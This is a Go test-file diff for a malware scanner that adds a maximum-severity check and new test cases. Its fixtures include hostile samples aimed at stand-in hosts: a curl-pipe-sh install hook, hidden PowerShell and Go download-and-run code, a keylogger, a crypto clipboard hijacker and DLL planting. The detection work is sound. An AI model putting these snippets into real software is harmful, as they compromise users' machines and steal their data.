@@ -19,63 +19,66 @@ func TestBehaviourClasses(t *testing.T) {
 		files map[string]string
 		rule  string
 		want  record.Severity // minimum severity, or quiet
+		most  record.Severity // when above info: the highest severity allowed (no block)
 	}{
 		// silent-exec
-		{"python detached at import", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.Popen(['pythonw', 'x.py'], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)\n"}, "silent-exec", record.High},
-		{"python plain subprocess", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n"}, "silent-exec", quiet},
-		{"shell nohup background", map[string]string{"tools/start.sh": "#!/bin/sh\nnohup ./agent >/dev/null 2>&1 &\n"}, "silent-exec", record.Low},
-		{"shell nohup in foreground", map[string]string{"tools/start.sh": "#!/bin/sh\nnohup ./long-job > job.log\n"}, "silent-exec", quiet},
-		{"powershell hidden window with download", map[string]string{"tools/run.ps1": "Invoke-WebRequest -Uri 'https://example.invalid/u.exe' -OutFile $f\nStart-Process -FilePath $f -WindowStyle Hidden\n"}, "silent-exec", record.High},
-		{"powershell visible process", map[string]string{"tools/run.ps1": "Start-Process -FilePath $f -Wait\n"}, "silent-exec", quiet},
-		{"js detached but inherited output", map[string]string{"lib/x.js": "const c = spawn(cmd, { detached: true, stdio: 'inherit' });\nc.unref();\n"}, "silent-exec", quiet},
+		{"python detached at import", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.Popen(['pythonw', 'x.py'], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)\n"}, "silent-exec", record.High, 0},
+		{"python plain subprocess", map[string]string{"acme/__init__.py": "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n"}, "silent-exec", quiet, 0},
+		{"shell nohup background", map[string]string{"tools/start.sh": "#!/bin/sh\nnohup ./agent >/dev/null 2>&1 &\n"}, "silent-exec", record.Low, record.Medium},
+		{"shell nohup in foreground", map[string]string{"tools/start.sh": "#!/bin/sh\nnohup ./long-job > job.log\n"}, "silent-exec", quiet, 0},
+		{"powershell hidden window with download", map[string]string{"tools/run.ps1": "Invoke-WebRequest -Uri 'https://example.invalid/u.exe' -OutFile $f\nStart-Process -FilePath $f -WindowStyle Hidden\n"}, "silent-exec", record.Medium, 0},
+		{"nuget install script hidden download", map[string]string{"tools/install.ps1": "Invoke-WebRequest -Uri 'https://example.invalid/u.exe' -OutFile $f\nStart-Process -FilePath $f -WindowStyle Hidden\n"}, "silent-exec", record.Critical, 0},
+		{"detached engine fetch in a CLI bundle", map[string]string{"build/cli.js": "const c = spawn(process.execPath, [check], { detached: true, stdio: 'ignore' }); c.unref();\nhttps.get(url, (r) => r.pipe(fs.createWriteStream(bin)).on('finish', () => { fs.chmodSync(bin, 0o755); execFileSync(bin, ['--version']); }));\n"}, "silent-exec", record.Low, 0},
+		{"powershell visible process", map[string]string{"tools/run.ps1": "Start-Process -FilePath $f -Wait\n"}, "silent-exec", quiet, 0},
+		{"js detached but inherited output", map[string]string{"lib/x.js": "const c = spawn(cmd, { detached: true, stdio: 'inherit' });\nc.unref();\n"}, "silent-exec", quiet, 0},
 
 		// escaped-strings
-		{"python long escaped code", map[string]string{"acme/run.py": "exec(\"" + escHex("import os;os.system('id');print('defanged fixture, nothing to see')") + "\")\n"}, "escaped-strings", record.Low},
-		{"python binary escapes", map[string]string{"acme/png.py": "MAGIC = b\"\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a\"\nNUL = \"\\x00\\x00\\x00\\x00\"\n"}, "escaped-strings", quiet},
+		{"python long escaped code", map[string]string{"acme/run.py": "exec(\"" + escHex("import os;os.system('id');print('defanged fixture, nothing to see')") + "\")\n"}, "escaped-strings", record.Low, 0},
+		{"python binary escapes", map[string]string{"acme/png.py": "MAGIC = b\"\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a\"\nNUL = \"\\x00\\x00\\x00\\x00\"\n"}, "escaped-strings", quiet, 0},
 
 		// confusable-identifier (Greek omicron, Cyrillic es)
-		{"python greek omicron", map[string]string{"acme/auth.py": "def check(tоken, token):\n    return tоken == token\n"}, "confusable-identifier", record.Medium},
-		{"go cyrillic es at init", map[string]string{"x/x.go": "package x\n\nvar сonfig = 1\n\nfunc init() { сonfig++ }\n"}, "confusable-identifier", record.High},
-		{"go cyrillic text in a string", map[string]string{"x/x.go": "package x\n\nvar greeting = \"Привет, сonfig\"\n"}, "confusable-identifier", quiet},
+		{"python greek omicron", map[string]string{"acme/auth.py": "def check(tоken, token):\n    return tоken == token\n"}, "confusable-identifier", record.Medium, 0},
+		{"go cyrillic es at init", map[string]string{"x/x.go": "package x\n\nvar сonfig = 1\n\nfunc init() { сonfig++ }\n"}, "confusable-identifier", record.High, 0},
+		{"go cyrillic text in a string", map[string]string{"x/x.go": "package x\n\nvar greeting = \"Привет, сonfig\"\n"}, "confusable-identifier", quiet, 0},
 
 		// image-payload
-		{"js image bytes evaluated", map[string]string{"lib/x.js": "const b = fs.readFileSync(__dirname + '/logo.png');\neval(b.slice(1024).toString());\n"}, "image-payload", record.Medium},
-		{"js image bytes resized", map[string]string{"lib/x.js": "const b = fs.readFileSync(__dirname + '/logo.png');\nmodule.exports = sharp(b).resize(64).toBuffer();\n"}, "image-payload", quiet},
+		{"js image bytes evaluated", map[string]string{"lib/x.js": "const b = fs.readFileSync(__dirname + '/logo.png');\neval(b.slice(1024).toString());\n"}, "image-payload", record.Medium, 0},
+		{"js image bytes resized", map[string]string{"lib/x.js": "const b = fs.readFileSync(__dirname + '/logo.png');\nmodule.exports = sharp(b).resize(64).toBuffer();\n"}, "image-payload", quiet, 0},
 
 		// dynamic-import
-		{"alias in ordinary code", map[string]string{"acme/util.py": "from os import system as s\ns('ls')\n"}, "dynamic-import", record.Low},
-		{"alias in setup.py", map[string]string{"setup.py": "from os import system as s\nfrom setuptools import setup\ns('sh /tmp/x')\nsetup(name='x')\n"}, "dynamic-import", record.High},
-		{"plugin loader", map[string]string{"acme/plugins.py": "import importlib\n\ndef load(name):\n    return importlib.import_module('acme.plugins.' + name)\n"}, "dynamic-import", quiet},
+		{"alias in ordinary code", map[string]string{"acme/util.py": "from os import system as s\ns('ls')\n"}, "dynamic-import", record.Low, 0},
+		{"alias in setup.py", map[string]string{"setup.py": "from os import system as s\nfrom setuptools import setup\ns('sh /tmp/x')\nsetup(name='x')\n"}, "dynamic-import", record.High, 0},
+		{"plugin loader", map[string]string{"acme/plugins.py": "import importlib\n\ndef load(name):\n    return importlib.import_module('acme.plugins.' + name)\n"}, "dynamic-import", quiet, 0},
 
 		// native-loader-abuse
-		{"powershell plants version.dll", map[string]string{"tools/fix.ps1": "Invoke-WebRequest -Uri 'https://example.invalid/v' -OutFile \"$env:LOCALAPPDATA\\Acme\\version.dll\"\n"}, "native-loader-abuse", record.Medium},
-		{"batch rundll32 of a temp dll", map[string]string{"tools/run.cmd": "rundll32 %TEMP%\\acme.dll,Start\n"}, "native-loader-abuse", record.Low},
-		{"batch rundll32 opening a URL", map[string]string{"tools/open.cmd": "rundll32 url.dll,FileProtocolHandler https://example.invalid/docs\n"}, "native-loader-abuse", quiet},
+		{"powershell plants version.dll", map[string]string{"tools/fix.ps1": "Invoke-WebRequest -Uri 'https://example.invalid/v' -OutFile \"$env:LOCALAPPDATA\\Acme\\version.dll\"\n"}, "native-loader-abuse", record.Medium, 0},
+		{"batch rundll32 of a temp dll", map[string]string{"tools/run.cmd": "rundll32 %TEMP%\\acme.dll,Start\n"}, "native-loader-abuse", record.Low, 0},
+		{"batch rundll32 opening a URL", map[string]string{"tools/open.cmd": "rundll32 url.dll,FileProtocolHandler https://example.invalid/docs\n"}, "native-loader-abuse", quiet, 0},
 
 		// clipboard-hijack
-		{"js clipper", map[string]string{"lib/x.js": "const t = await clipboardy.read();\nif (/^0x[a-fA-F0-9]{40}$/.test(t)) await clipboardy.write(ADDR);\n"}, "clipboard-hijack", record.Medium},
-		{"js copy button", map[string]string{"lib/x.js": "async function copy(addr) { if (/^0x[a-fA-F0-9]{40}$/.test(addr)) await clipboardy.write(addr); }\n"}, "clipboard-hijack", quiet},
+		{"js clipper", map[string]string{"lib/x.js": "const t = await clipboardy.read();\nif (/^0x[a-fA-F0-9]{40}$/.test(t)) await clipboardy.write(ADDR);\n"}, "clipboard-hijack", record.Medium, 0},
+		{"js copy button", map[string]string{"lib/x.js": "async function copy(addr) { if (/^0x[a-fA-F0-9]{40}$/.test(addr)) await clipboardy.write(addr); }\n"}, "clipboard-hijack", quiet, 0},
 
 		// input-capture
-		{"js key hook sending", map[string]string{"lib/x.js": "const ioHook = require('iohook');\nioHook.on('keydown', (e) => fetch('https://example.invalid/k', { method: 'POST', body: String(e.keycode) }));\n"}, "input-capture", record.Medium},
-		{"powershell key state", map[string]string{"tools/k.ps1": "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace W\n"}, "input-capture", record.Low},
-		{"python screenshot alone", map[string]string{"acme/shot.py": "import pyautogui\n\ndef shot(p):\n    pyautogui.screenshot(p)\n"}, "input-capture", quiet},
+		{"js key hook sending", map[string]string{"lib/x.js": "const ioHook = require('iohook');\nioHook.on('keydown', (e) => fetch('https://example.invalid/k', { method: 'POST', body: String(e.keycode) }));\n"}, "input-capture", record.Medium, 0},
+		{"powershell key state", map[string]string{"tools/k.ps1": "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace W\n"}, "input-capture", record.Low, 0},
+		{"python screenshot alone", map[string]string{"acme/shot.py": "import pyautogui\n\ndef shot(p):\n    pyautogui.screenshot(p)\n"}, "input-capture", quiet, 0},
 
 		// gem-install-hook, network-on-import
-		{"gem pre_install runs commands", map[string]string{"lib/rubygems_plugin.rb": "Gem.pre_install do |i|\n  system('curl -s https://example.invalid/x | sh')\nend\n"}, "gem-install-hook", record.High},
-		{"python top-level request at import", map[string]string{"acme/__init__.py": "import requests\nr = requests.get('https://example.invalid/ping')\n"}, "network-on-import", record.Medium},
-		{"python request inside a function", map[string]string{"acme/__init__.py": "import requests\n\ndef ping():\n    return requests.get('https://example.invalid/ping')\n"}, "network-on-import", quiet},
+		{"gem pre_install runs commands", map[string]string{"lib/rubygems_plugin.rb": "Gem.pre_install do |i|\n  system('curl -s https://example.invalid/x | sh')\nend\n"}, "gem-install-hook", record.High, 0},
+		{"python top-level request at import", map[string]string{"acme/__init__.py": "import requests\nr = requests.get('https://example.invalid/ping')\n"}, "network-on-import", record.Medium, 0},
+		{"python request inside a function", map[string]string{"acme/__init__.py": "import requests\n\ndef ping():\n    return requests.get('https://example.invalid/ping')\n"}, "network-on-import", quiet, 0},
 
 		// go-exec-payload: more forms
-		{"go runs bytes as the program", map[string]string{"x/x.go": "package x\n\nimport \"os/exec\"\n\nfunc Run(b []byte) { exec.Command(string(b)).Run() }\n"}, "go-exec-payload", record.Medium},
-		{"go cmd /C of bytes", map[string]string{"x/x.go": "package x\n\nimport \"os/exec\"\n\nfunc Run(b []byte) { exec.Command(\"cmd\", \"/C\", string(b)).Run() }\n"}, "go-exec-payload", record.Medium},
-		{"go download made executable", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tr, _ := http.Get(\"https://example.invalid/a\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(\"/tmp/a\", b, 0755)\n\texec.Command(\"/tmp/a\").Start()\n}\n"}, "go-exec-payload", record.Critical},
-		{"go writes a config then builds", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Build(b []byte) error {\n\tos.WriteFile(\"gen.go\", b, 0644)\n\treturn exec.Command(\"go\", \"build\", \"./...\").Run()\n}\n"}, "go-exec-payload", quiet},
+		{"go runs bytes as the program", map[string]string{"x/x.go": "package x\n\nimport \"os/exec\"\n\nfunc Run(b []byte) { exec.Command(string(b)).Run() }\n"}, "go-exec-payload", record.Medium, 0},
+		{"go cmd /C of bytes", map[string]string{"x/x.go": "package x\n\nimport \"os/exec\"\n\nfunc Run(b []byte) { exec.Command(\"cmd\", \"/C\", string(b)).Run() }\n"}, "go-exec-payload", record.Medium, 0},
+		{"go download made executable", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tr, _ := http.Get(\"https://example.invalid/a\")\n\tb, _ := io.ReadAll(r.Body)\n\tos.WriteFile(\"/tmp/a\", b, 0755)\n\texec.Command(\"/tmp/a\").Start()\n}\n"}, "go-exec-payload", record.Critical, 0},
+		{"go writes a config then builds", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Build(b []byte) error {\n\tos.WriteFile(\"gen.go\", b, 0644)\n\treturn exec.Command(\"go\", \"build\", \"./...\").Run()\n}\n"}, "go-exec-payload", quiet, 0},
 
 		// generated Go code: syscall tables name APIs without using them
-		{"generated syscall table", map[string]string{"windows/zsyscall_windows.go": zsys}, "browser-data", quiet},
-		{"hand-written syscall table", map[string]string{"windows/syscall_windows.go": "package windows\n\nvar procCryptUnprotectData = modcrypt32.NewProc(\"CryptUnprotectData\")\n"}, "browser-data", record.Medium},
-		{"generated marker after the package clause", map[string]string{"windows/z.go": "package windows\n\n// Code generated by hand; DO NOT EDIT.\nvar procCryptUnprotectData = modcrypt32.NewProc(\"CryptUnprotectData\")\n"}, "browser-data", record.Medium},
+		{"generated syscall table", map[string]string{"windows/zsyscall_windows.go": zsys}, "browser-data", quiet, 0},
+		{"hand-written syscall table", map[string]string{"windows/syscall_windows.go": "package windows\n\nvar procCryptUnprotectData = modcrypt32.NewProc(\"CryptUnprotectData\")\n"}, "browser-data", record.Medium, 0},
+		{"generated marker after the package clause", map[string]string{"windows/z.go": "package windows\n\n// Code generated by hand; DO NOT EDIT.\nvar procCryptUnprotectData = modcrypt32.NewProc(\"CryptUnprotectData\")\n"}, "browser-data", record.Medium, 0},
 	}
 	rs := DefaultRules()
 	for _, c := range cases {
@@ -95,6 +98,9 @@ func TestBehaviourClasses(t *testing.T) {
 			}
 			if !fired || best < c.want {
 				t.Errorf("want %s at %s or above, got %v (fired %v)%s", c.rule, c.want, best, fired, describe(got))
+			}
+			if c.most > record.Info && best > c.most {
+				t.Errorf("want %s at %s at most, got %s%s", c.rule, c.most, best, describe(got))
 			}
 		})
 	}
